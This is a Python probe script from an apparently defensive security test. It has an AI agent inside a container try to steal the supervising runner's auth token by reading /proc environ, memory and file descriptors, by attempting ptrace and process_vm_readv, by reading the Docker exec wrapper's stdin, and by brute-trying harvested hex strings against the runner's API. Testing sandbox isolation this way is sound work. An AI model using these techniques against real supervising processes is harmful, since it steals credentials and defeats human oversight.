"""What an agent in the runner's container tries, to get the runner's token: run by the agent's own shell.

Not imported: tests/security/test_runner_token_in_container.py writes this file into the
container, and the real ``claude`` the runner spawned runs it through its Bash tool (``python3
THIS OUT``), as the container's ``agent`` user with no capabilities. It knows what an agent
knows: its own ancestry (the runner is one of its ancestors) and what ``/proc`` shows; not the
token. It writes what each attempt gave (data, or the errno) to OUT as JSON, and every 64-hex-digit
string it saw anywhere (the token's shape) under ``candidates``; the test looks for the token in
all of it. Python 3 standard library only (the image's ``python3``).
"""

import ctypes
import errno
import json
import os
import re
import sys
import urllib.error
import urllib.request

PTRACE_ATTACH = 16
PTRACE_DETACH = 17
PTRACE_SEIZE = 0x4206
HEX64 = re.compile(rb"[0-9a-f]{64}")
MEM_BUDGET = 64 << 20  # bytes of the runner's memory read at most, should /proc/<pid>/mem ever open

candidates: set[str] = set()


def errname(exc: OSError) -> str:
    return errno.errorcode.get(exc.errno or 0, str(exc.errno))


def harvest(data: bytes) -> None:
    for found in HEX64.findall(data):
        if len(candidates) < 5000:
            candidates.add(found.decode())


def read(path: str, limit: int = 1 << 20) -> dict[str, object]:
    try:
        with open(path, "rb") as f:
            data = f.read(limit)
    except OSError as exc:
        return {"error": errname(exc)}
    harvest(data)
    return {"data": data.decode(errors="replace")}


def listdir(path: str) -> dict[str, object]:
    try:
        names = os.listdir(path)
    except OSError as exc:
        return {"error": errname(exc)}
    links = {}
    for name in names:
        try:
            links[name] = os.readlink(os.path.join(path, name))
        except OSError as exc:
            links[name] = f"error {errname(exc)}"
    return {"links": links}


def ppid(pid: int) -> int:
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


def cmdline(pid: int) -> str:
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        data = f.read()
    harvest(data)
    return data.replace(b"\0", b" ").decode(errors="replace").strip()


def ancestry() -> list[int]:
    pid, chain = os.getpid(), []
    while pid > 0:  # the exec's first process has ppid 0 (its parent is outside the pid namespace)
        chain.append(pid)
        pid = ppid(pid)
    return chain


def read_mem(pid: int, maps: object) -> dict[str, object]:
    """Open /proc/<pid>/mem and read what maps says is readable (all of it would fit the token's search)."""
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError as exc:
        return {"error": errname(exc)}
    spent, regions, errors = 0, 0, 0
    try:
        for line in str(maps).splitlines():
            parts = line.split()
            if len(parts) < 2 or not parts[1].startswith("r"):
                continue
            start, end = (int(x, 16) for x in parts[0].split("-"))
            while start < end and spent < MEM_BUDGET:
                size = min(end - start, 1 << 20)
                try:
                    chunk = os.pread(fd, size, start)
                except OSError:
                    errors += 1
                    break
                harvest(chunk)
                spent += len(chunk)
                start += size
            regions += 1
    finally:
        os.close(fd)
    return {"opened": True, "bytes": spent, "regions": regions, "errors": errors}


def ptrace(pid: int) -> dict[str, object]:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    out: dict[str, object] = {}
    for name, request in (("attach", PTRACE_ATTACH), ("seize", PTRACE_SEIZE)):
        ctypes.set_errno(0)
        if libc.ptrace(request, pid, None, None) == -1:
            out[name] = errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
        else:
            out[name] = "attached"
            libc.ptrace(PTRACE_DETACH, pid, None, None)

    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(4096)
    local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 4096)
    remote = IoVec(0x400000, 4096)  # any address: the permission is checked before the address is
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    ctypes.set_errno(0)
    got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    out["process_vm_readv"] = (
        errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno())) if got == -1 else f"read {got}"
    )
    if got > 0:
        harvest(buffer.raw[:got])
    return out


def try_tokens(host: str, port: str, tokens: list[str]) -> dict[str, int]:
    """What the runner answers each token the agent could come up with (GET /runs/x: 401 or, if right, 404)."""
    answers = {}
    for token in tokens:
        request = urllib.request.Request(f"http://{host}:{port}/runs/probe")
        if token:
            request.add_header("Authorization", f"Bearer {token}")
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                answers[token] = response.status
        except urllib.error.HTTPError as exc:
            answers[token] = exc.code
        except OSError as exc:
            answers[token] = -1
            print(f"runner unreachable: {exc}", file=sys.stderr)
    return answers


def main(out_path: str) -> None:
    report: dict[str, object] = {"self_pid": os.getpid()}
    chain = ancestry()
    lines = {pid: cmdline(pid) for pid in chain}
    report["ancestry"] = [{"pid": pid, "cmdline": lines[pid]} for pid in chain]
    runner = next(pid for pid in chain if "-m boxwright.runner" in lines[pid])
    below = chain[: chain.index(runner)]  # the agent's side: this shell's processes up to the runner's child
    wrapper = ppid(runner)
    report["runner"] = runner
    report["wrapper"] = {"pid": wrapper, "cmdline": cmdline(wrapper) if wrapper else ""}
    maps = read(f"/proc/{runner}/maps")
    report["runner_probes"] = {
        "proc_owner_uid": os.stat(f"/proc/{runner}/environ").st_uid,
        "environ": read(f"/proc/{runner}/environ"),
        "cmdline": lines[runner],
        "maps": maps,
        "mem": read_mem(runner, maps.get("data", "")),
        "fd": listdir(f"/proc/{runner}/fd"),
        "task_environ": read(f"/proc/{runner}/task/{runner}/environ"),
        "ptrace": ptrace(runner),
    }
    agent = {}
    for pid in below:
        agent[str(pid)] = {
            "cmdline": lines[pid],
            "proc_owner_uid": os.stat(f"/proc/{pid}/environ").st_uid,
            "environ": read(f"/proc/{pid}/environ"),
            "fd": listdir(f"/proc/{pid}/fd"),
        }
    report["agent"] = agent
    report["own_env"] = dict(os.environ)
    for value in os.environ.values():
        harvest(value.encode())
    # The exec's stdin that carried the token: the runner's parent (Docker's exec wrapper) still holds it.
    stdin: dict[str, object] = {}
    if wrapper:
        try:
            stdin["link"] = os.readlink(f"/proc/{wrapper}/fd/0")
            fd = os.open(f"/proc/{wrapper}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
            try:
                data = os.read(fd, 4096)
                harvest(data)
                stdin["read"] = data.decode(errors="replace")
            except OSError as exc:
                stdin["read_error"] = errname(exc)
            finally:
                os.close(fd)
        except OSError as exc:
            stdin["error"] = errname(exc)
        stdin["wrapper_environ"] = read(f"/proc/{wrapper}/environ")
    report["exec_stdin"] = stdin
    words = lines[runner].split()
    host = words[words.index("--host") + 1] if "--host" in words else "127.0.0.1"
    port = words[words.index("--port") + 1] if "--port" in words else "8080"
    report["tries"] = try_tokens(host, port, ["", "wrong", *sorted(candidates)[:200]])
    report["candidates"] = sorted(candidates)
    with open(out_path, "w") as f:
        json.dump(report, f)
    print(f"attack report in {out_path}: {len(candidates)} candidates")


if __name__ == "__main__":
    main(sys.argv[1])
